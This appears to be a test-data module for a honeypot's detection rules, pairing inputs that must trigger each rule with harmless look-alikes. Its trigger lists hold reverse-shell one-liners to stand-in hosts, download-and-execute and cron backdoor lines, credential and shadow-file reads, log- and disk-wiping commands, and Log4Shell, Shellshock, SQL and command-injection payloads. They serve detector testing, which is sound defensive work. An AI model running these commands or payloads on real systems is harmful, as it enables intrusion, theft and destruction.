# SPDX-License-Identifier: MIT
"""What the recorder does to the decoys: for each rule, what must fire it, and what resembles it and must not."""

from __future__ import annotations

import msgspec

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


class Request(msgspec.Struct, frozen=True):
    """One HTTP request; `agent` None sends no User-Agent."""

    target: str
    method: str = "GET"
    agent: str | None = BROWSER
    headers: tuple[str, ...] = ()
    body: str | None = None


class Login(msgspec.Struct, frozen=True):
    """A login by SSH; without a password a key is offered."""

    username: str
    password: str | None


class Banner(msgspec.Struct, frozen=True):
    """An SSH client that names itself so."""

    software: str


class Forward(msgspec.Struct, frozen=True):
    """A connection that is to be forwarded by SSH, or the subsystem that is asked for."""

    target: str = ""


class Upload(msgspec.Struct, frozen=True):
    """A file that is written over SSH."""

    name: str
    text: str


class Token(msgspec.Struct, frozen=True):
    """The use of a canary token, by http or dns."""

    channel: str


Step = Request | Login | Banner | Forward | Upload | Token

COMMANDS: dict[str, tuple[list[str], list[str]]] = {
    "command_in_decoy_shell": (
        [
            "uname -a",
            "ls",
        ],
        [],
    ),
    "reverse_shell": (
        [
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "nc -e /bin/sh 198.51.100.7 4444",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 9001 >/tmp/f",
            'python3 -c \'import socket,pty;s=socket.socket();s.connect(("198.51.100.7",4444));pty.spawn("sh")\'',
            "socat TCP:198.51.100.7:4444 EXEC:/bin/bash",
        ],
        [
            "nc -zv 127.0.0.1 22",
            "cat /dev/null",
            "ls /bin | head",
            "echo connect",
        ],
    ),
    "scripted_terminal": (
        [
            "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
            "perl -e 'exec \"/bin/sh\";'",
            "script -qc /bin/bash /dev/null",
            "ruby -e 'exec \"/bin/sh\"'",
        ],
        [
            "python3 --version",
            "perl -e 'print 42'",
            "bash",
        ],
    ),
    "transfer_by_command": (
        [
            "wget http://198.51.100.7/bins.sh",
            "cd /tmp; curl -O http://198.51.100.7/x86",
            "busybox wget http://198.51.100.7/m",
            "tftp -g -r mips 198.51.100.7",
            "/usr/bin/curl -s https://evil.example/i.sh | bash",
            "scp root@198.51.100.7:/x .",
        ],
        [
            "wget --version",
            "curl --help",
            "which wget",
            "echo wgetter http",
            "ls /usr/bin/curl",
        ],
    ),
    "system_information": (
        [
            "uname -a",
            "cat /proc/cpuinfo | grep name | wc -l",
            "/bin/uname -s -v -n -r -m",
            "nproc",
            "lscpu | grep Model",
            "cat /etc/os-release",
            "df -h",
            "echo ok; free -m",
        ],
        [
            "unamex",
            "echo uname-is-a-word",
            "ls -la",
            "freedom",
        ],
    ),
    "user_discovery": (
        [
            "whoami",
            "id",
            "w",
            "echo hi && id",
            "sudo whoami",
            "last | head",
            "sudo -l",
            "sudo -n -l",
            "`id`",
            "$(whoami)",
        ],
        [
            "ls id",
            "rapid",
            "cat w.txt",
            "identify image.png",
            "echo last",
        ],
    ),
    "network_configuration": (
        [
            "ifconfig",
            "ip a",
            "ip -4 addr show",
            "/sbin/ifconfig eth0",
            "cat /etc/resolv.conf",
            "arp -a",
            "ip route",
        ],
        [
            "zip a",
            "echo ip",
            "ipcalc 1.2.3.4",
            "ls /etc",
        ],
    ),
    "network_connections": (
        [
            "netstat -tulpn",
            "ss -ant",
            "netstat -an | grep ESTABLISHED",
            "lsof -i :22",
            "cat /proc/net/tcp",
        ],
        [
            "ssh -V",
            "ls",
            "lsof /tmp",
            "less x",
        ],
    ),
    "process_discovery": (
        [
            "ps aux",
            "ps",
            "top -bn1",
            "ps -ef | grep miner",
            "pgrep -f sshd",
            "pstree",
        ],
        [
            "cps",
            "pstops",
            "echo top",
            "stop",
        ],
    ),
    "file_discovery": (
        [
            "find / -name '*.conf'",
            "find / -perm -4000 -type f 2>/dev/null",
            "ls -la /",
            "ls -R",
            "ls /home",
            "locate passwd",
            "tree",
        ],
        [
            "ls",
            "ls -la",
            "finder",
            "ls notes.txt",
            "cd /home",
        ],
    ),
    "account_discovery": (
        [
            "cat /etc/passwd",
            "getent passwd",
            "cut -d: -f1 /etc/passwd",
            "cat /etc/group",
            "head -3 /etc/sudoers",
        ],
        [
            "echo x:0:0::/:/bin/sh >> /etc/passwd",
            "passwd",
            "cat /etc/hostname",
            "cat /etc/passwords",
        ],
    ),
    "network_scan_by_command": (
        [
            "nmap -sS 192.0.2.0/24",
            "masscan 0.0.0.0/0 -p22",
            "nc -zv 192.0.2.1 1-1000",
            "for i in $(seq 1 254); do ping -c1 192.0.2.$i; done",
        ],
        [
            "ping 192.0.2.1",
            "cat nmap.txt",
            "nc -h",
        ],
    ),
    "cron_job": (
        [
            "echo '* * * * * curl http://198.51.100.7/a|sh' >> /etc/crontab",
            "(crontab -l; echo '@reboot /tmp/.x') | crontab -",
            "crontab /tmp/cr",
            "crontab -e",
            "echo x > /var/spool/cron/root",
        ],
        [
            "crontab -l",
            "ls /etc/cron.d",
            "cat /etc/crontab",
        ],
    ),
    "systemd_service": (
        [
            "systemctl enable xd",
            "cp /tmp/x.service /etc/systemd/system/x.service",
            "echo '[Unit]' > /etc/systemd/system/m.service",
            "update-rc.d x defaults",
            "systemctl --now enable x",
        ],
        [
            "systemctl status ssh",
            "systemctl list-units",
            "ls /etc/systemd/system/",
        ],
    ),
    "authorized_keys": (
        [
            "echo 'ssh-rsa AAAAB3NzaC1yc2E mdrfckr' >> ~/.ssh/authorized_keys",
            "mkdir -p ~/.ssh && echo ssh-ed25519 AAAA x>.ssh/authorized_keys",
            "cat key | tee -a /root/.ssh/authorized_keys",
        ],
        [
            "cat ~/.ssh/authorized_keys",
            "ls -la ~/.ssh",
            "echo 'ssh-rsa AAAA' > key.pub",
        ],
    ),
    "create_account": (
        [
            "useradd -m -s /bin/bash support2",
            "adduser hacker",
            "/usr/sbin/useradd -o -u 0 toor",
            "echo 'x:x:0:0::/root:/bin/bash' >> /etc/passwd",
        ],
        [
            "cat /etc/passwd",
            "man useradd_",
            "userdel x",
            "groups",
        ],
    ),
    "password_changed": (
        [
            "echo 'root:Zx8q1' | chpasswd",
            "passwd root",
            "passwd",
            "usermod -p hash root",
            "echo -e 'a\\na' | passwd",
        ],
        [
            "passwd -S root",
            "cat /etc/passwd",
            "passwd --status",
        ],
    ),
    "sudo_shell": (
        [
            "sudo su -",
            "sudo -i",
            "sudo bash",
            "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        ],
        [
            "sudo apt update",
            "sudo ls",
            "sudo -l",
            "visudo",
            "pseudosudo -i",
        ],
    ),
    "shadow_file": (
        [
            "cat /etc/shadow",
            "cp /etc/shadow /tmp/s",
            "unshadow a b",
        ],
        [
            "cat /etc/passwd",
            "echo shadow",
        ],
    ),
    "credentials_in_files": (
        [
            "cat .env",
            "cat ~/.aws/credentials",
            "cat /var/www/html/wp-config.php",
            "grep -ri password /etc",
            "cat /root/.my.cnf",
        ],
        [
            "cat .environment",
            "ls -la ~/.aws",
            "env",
            "grep -c processor /proc/cpuinfo",
        ],
    ),
    "private_keys": (
        [
            "cat ~/.ssh/id_rsa",
            "find / -name '*.pem'",
            "cat /etc/ssh/ssh_host_rsa_key",
            "ls /etc/ssl/private",
        ],
        [
            "cat ~/.ssh/known_hosts",
            "ssh-keygen -l",
        ],
    ),
    "shell_history_read": (
        [
            "cat ~/.bash_history",
            "tail -n 50 /root/.zsh_history",
            "grep pass .mysql_history",
        ],
        [
            "history",
            "cat notes",
        ],
    ),
    "cloud_metadata": (
        [
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/",
        ],
        [
            "curl http://198.51.100.7/",
            "ping 169.254.1.1",
        ],
    ),
    "history_cleared": (
        [
            "history -c",
            "unset HISTFILE",
            "rm -rf ~/.bash_history",
            "export HISTFILE=/dev/null",
            "ln -sf /dev/null ~/.bash_history",
            "history -cw",
            "cat /dev/null > ~/.bash_history",
            "set +o history",
        ],
        [
            "history",
            "cat ~/.bash_history",
            "history | grep ssh",
        ],
    ),
    "file_deletion": (
        [
            "rm -rf /tmp/x",
            "rm x.sh",
            "cd /tmp; rm -f *",
            "shred -u key",
            "/bin/rm a",
        ],
        [
            "rmdir x",
            "ls rm",
            "firm x",
            "echo alarm off",
        ],
    ),
    "logs_cleared": (
        [
            "rm -rf /var/log/*",
            "echo > /var/log/auth.log",
            "cat /dev/null > /var/log/wtmp",
            "truncate -s0 /var/log/syslog",
            "journalctl --vacuum-time=1s",
            "shred /var/run/utmp /var/log/wtmp",
        ],
        [
            "cat /var/log/auth.log",
            "ls /var/log",
            "tail -f /var/log/syslog",
            "journalctl -n 5",
        ],
    ),
    "permissions_changed": (
        [
            "chmod +x x.sh",
            "chmod 777 /tmp/x",
            "chmod u+x,g+x a",
            "chattr -ia /root/.ssh/authorized_keys",
            "chmod 0755 ./m",
            "chmod -R 777 /tmp",
        ],
        [
            "chmod 600 key",
            "chmod 644 x",
            "chmod -x x",
            "lsattr x",
        ],
    ),
    "decoded_payload": (
        [
            "echo L2Jpbi9zaA== | base64 -d | sh",
            "base64 --decode x > y",
            "python3 -c 'import base64;print(base64.b64decode(\"eA==\"))'",
            "echo -e '\\x7f\\x45\\x4c\\x46\\x02\\x01' > e",
            "openssl enc -base64 -d -in x",
            "xxd -r -p x",
        ],
        [
            "base64 x",
            "echo -e '\\x41'",
            "base64 --help",
            "echo base64",
        ],
    ),
    "encoded_command": (
        [
            "echo d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3g= | base64 -d",
            "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvOTAwMSAwPiYx",
            "echo IyEvYmluL3NoCg==",
        ],
        [
            "echo aGVsbG8gd29ybGQ= | base64 -d",
            "ls /bin/sh",
            "wget http://198.51.100.7/",
        ],
    ),
    "firewall_disabled": (
        [
            "iptables -F",
            "ufw disable",
            "systemctl stop firewalld",
            "service iptables stop",
            "iptables -t nat -F",
            "/sbin/iptables -P INPUT ACCEPT",
            "nft flush ruleset",
        ],
        [
            "iptables -L",
            "systemctl status ufw",
            "systemctl stop nginx",
            "ufw status",
        ],
    ),
    "defences_disabled": (
        [
            "setenforce 0",
            "systemctl stop apparmor",
            "/etc/init.d/aliyun-service stop; rm -rf /usr/local/aegis",
            "apt remove clamav",
            "echo /tmp/l.so > /etc/ld.so.preload",
            "sed -i s/SELINUX=enforcing/SELINUX=disabled/ /etc/selinux/config",
        ],
        [
            "getenforce",
            "systemctl stop nginx",
            "aa-status",
        ],
    ),
    "ssh_from_decoy": (
        [
            "ssh root@192.0.2.5",
            "ssh -o StrictHostKeyChecking=no -p 2222 admin@192.0.2.5 id",
            "sshpass -p toor ssh root@192.0.2.5",
            "sftp 192.0.2.5",
        ],
        [
            "ssh -V",
            "ls .ssh",
            "sshd",
            "ssh-keygen",
        ],
    ),
    "cryptocurrency_miner": (
        [
            "./xmrig -o stratum+tcp://pool.example:3333 -u 4A",
            "wget http://198.51.100.7/xmrig.tar.gz",
            "nohup ./kdevtmpfsi &",
            "./m --donate-level 1",
        ],
        [
            "ls",
            "miner's guide",
            "cat pool.txt",
        ],
    ),
    "processes_killed": (
        [
            "pkill -9 xmrig",
            "killall -9 sshd",
            "kill -9 4711",
            "systemctl stop nginx",
            "service mysql stop",
        ],
        [
            "kill",
            "ps",
            "skill",
            "systemctl status nginx",
        ],
    ),
    "disk_wiped": (
        [
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "mkfs.ext4 /dev/sda1",
            "rm -rf --no-preserve-root /",
            "rm -rf /*",
            "rm -rf /",
        ],
        [
            "dd if=/dev/sda of=/tmp/img count=1",
            "rm -rf /tmp/x",
            "ls /dev/sda",
        ],
    ),
    "archived_data": (
        [
            "tar czf /tmp/o.tgz /etc /home",
            "zip -r x.zip /var/www",
            "tar -cvf a.tar ~/",
        ],
        [
            "tar xzf x.tgz",
            "tar tf /etc/x.tar",
            "unzip x.zip",
        ],
    ),
    "container_escape": (
        [
            "ls -la /var/run/docker.sock",
            "docker run -v /:/host -it alpine chroot /host",
            "nsenter --target 1 --mount sh",
            "docker run --rm --privileged alpine sh",
        ],
        [
            "ls /var/run",
            "dockerd-is-not-here",
            "docker ps",
            "docker run --rm hello-world",
        ],
    ),
    "container_discovery": (
        [
            "docker ps -a",
            "sudo docker container ls",
            "kubectl get secrets -A",
            "kubectl -n kube-system get pods",
            "crictl pods",
        ],
        [
            "dockerd-is-not-here",
            "docker run --rm hello-world",
            "ls docker ps",
            "kubectl version",
        ],
    ),
}
"""Command lines by rule."""


def post(target: str, body: str) -> Request:
    """Return a form sent to `target`."""
    return Request(target, "POST", body=body)


WORDS = ["admin", "backup", "test", "old", "new", "dev", "staging", "api"]
WORDS += ["v1", "v2", "panel", "config", "db", "console", "private"]
PASSWORDS = ["123456", "admin", "root", "qwerty", "letmein"]
NAMES = ["root", "admin", "oracle", "postgres", "jenkins", "git"]

STEPS: dict[str, tuple[list[Step], list[Step]]] = {
    "command_in_decoy_shell": ([], [Request("/"), Login("root", "wrong")]),
    "password_guessing": (
        [Login("oracle", password) for password in PASSWORDS],
        [*(Login("oracle", password) for password in PASSWORDS[:4]), Login("root", "admin123")],
    ),
    "password_spraying": (
        [Login(name, "Winter2026!") for name in NAMES],
        [Login(name, "Winter2026!") for name in [*NAMES[:5], *NAMES[:3]]],
    ),
    "accepted_login": (
        [Login("root", "admin123"), Login("deploy", "deploy")],
        [Login("root", "wrong"), Login("deploy", None)],
    ),
    "default_credentials": (
        [Login("root", "root"), Login("admin", "admin"), Login("pi", "raspberry"), Login("ubnt", "ubnt")],
        [Login("root", "S3cure-and-long"), Login("pi", "ubnt"), Login("root", None)],
    ),
    "file_dropped": (
        [Upload("/tmp/x.sh", "#!/bin/sh\nid\n")],
        [Forward("192.0.2.80:80")],
    ),
    "tunnel_requested": (
        [Forward("192.0.2.80:80")],
        [Forward()],
    ),
    "scanner_client": (
        [Banner("SSH-2.0-Go"), Banner("SSH-2.0-libssh_0.9.6"), Banner("SSH-2.0-ZGrab ZGrab SSH Survey")],
        [Banner("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3"), Banner("SSH-2.0-PuTTY_Release_0.81")],
    ),
    "vulnerability_scanner": (
        [
            Request("/", agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"),
            Request("/?id=1", agent="sqlmap/1.8.2#stable (https://sqlmap.org)"),
            Request("/", agent="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
            Request("/.env", agent="Mozilla/5.0 zgrab/0.x"),
            Request("/x", agent="gobuster/3.6"),
            Request("/", agent="Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        ],
        [Request("/"), Request("/", agent="curl/8.5.0"), Request("/", agent=None)],
    ),
    "wordlist_scanning": (
        [Request(f"/{word}") for word in WORDS],
        [Request(f"/{word}") for word in [*WORDS[:14], *WORDS[:14]]],
    ),
    "log4shell": (
        [
            Request("/", headers=("X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}",)),
            Request("/?x=${jndi:dns://x.example}"),
            Request("/", headers=("Referer: ${${lower:j}${lower:n}di:ldap://198.51.100.7/a}",)),
            Request("/?q=%24%7bjndi:ldap://198.51.100.7/a%7d"),
            post("/login", "u=${jndi:rmi://198.51.100.7/x}"),
        ],
        [Request("/?price=${amount}"), Request("/"), Request("/", headers=("X-Template: {{ jndi }}",))],
    ),
    "path_traversal": (
        [
            Request("/../../../../etc/passwd"),
            Request("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
            Request("/static/%2e%2e%2f%2e%2e%2fetc/hosts"),
            Request("/index.php?page=/etc/passwd"),
            Request("/..%5c..%5cwindows/win.ini"),
            Request("/icons/%252e%252e/x"),
        ],
        [Request("/a..b/c"), Request("/docs/v1.2../x"), Request("/etc/"), Request("/file...txt")],
    ),
    "shellshock": (
        [
            Request("/cgi-bin/status", agent="() { :;}; /bin/bash -c 'wget http://198.51.100.7/x'"),
            Request("/", headers=("Referer: () { ignored; }; echo Content-Type: text/plain",)),
        ],
        [Request("/"), Request("/", headers=("X-Js: function() { return 1 }",))],
    ),
    "sql_injection": (
        [
            Request("/p?id=1%20UNION%20SELECT%201,2,3"),
            Request("/p?id=1'+or+'1'='1"),
            Request("/p?id=1;waitfor+delay+'0:0:5'"),
            Request("/p?id=sleep(5)"),
            Request("/p?id=1/**/union/**/all/**/select/**/1"),
            post("/login", "user=admin' or '1'='1&pass=x"),
        ],
        [
            Request("/union/select-committee"),
            Request("/p?q=rock'n'roll"),
            Request("/p?id=1"),
            post("/login", "user=admin&pass=oracle"),
        ],
    ),
    "command_injection": (
        [
            Request("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"),
            Request("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7/m"),
            post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php echo md5('x'); ?>"),
            Request("/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"),
            post("/x?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "<?php system('id'); ?>"),
            Request("/ping?host=127.0.0.1%3Bcat%20/etc/hosts"),
            post("/GponForm/diag_Form?images/", "diag_action=ping&dest_host=`busybox wget http://198.51.100.7/g`"),
        ],
        [
            Request("/search?q=cats;dogs"),
            Request("/shop?cat=3"),
            Request("/?a=1&b=2"),
            post("/login", "user=admin&pass=admin"),
        ],
    ),
    "exposed_secrets": (
        [
            Request("/.env"),
            Request("/.git/config"),
            Request("/wp-config.php.bak"),
            Request("/app/.env.production"),
            Request("/.aws/credentials"),
            Request("/backup.sql?x=1"),
        ],
        [Request("/environment"), Request("/git/config"), Request("/index.php"), Request("/.well-known/security.txt")],
    ),
    "web_shell": (
        [
            Request("/c99.php"),
            Request("/uploads/shell.php?cmd=id"),
            Request("/wso.php"),
            Request("/cmd.jsp"),
            post("/u.php", "<?php eval($_POST['x']);?>"),
        ],
        [
            Request("/index.php"),
            Request("/shellfish"),
            Request("/commander.html"),
            Request("/xmlrpc.php"),
            Request("/upload.php"),
            Request("/adminer.php"),
            post("/u", "eval=good"),
        ],
    ),
    "login_form_guessing": (
        [
            Request("/wp-login.php"),
            Request("/phpmyadmin/"),
            Request("/manager/html"),
            Request("//wp-admin/setup-config.php"),
            Request("/actuator/health"),
            post("/xmlrpc.php", "<methodCall/>"),
        ],
        [Request("/"), Request("/blog/wp-login-help"), Request("/administrators-guide"), Request("/login")],
    ),
    "open_proxy_probe": (
        [Request("http://example.com/"), Request("https://example.com/")],
        [Request("/"), Request("/go?u=http://example.com/")],
    ),
    "canary_token_used": (
        [Token("http"), Token("dns")],
        [Request("/a7k2q9x3")],
    ),
}
"""Everything else by rule."""
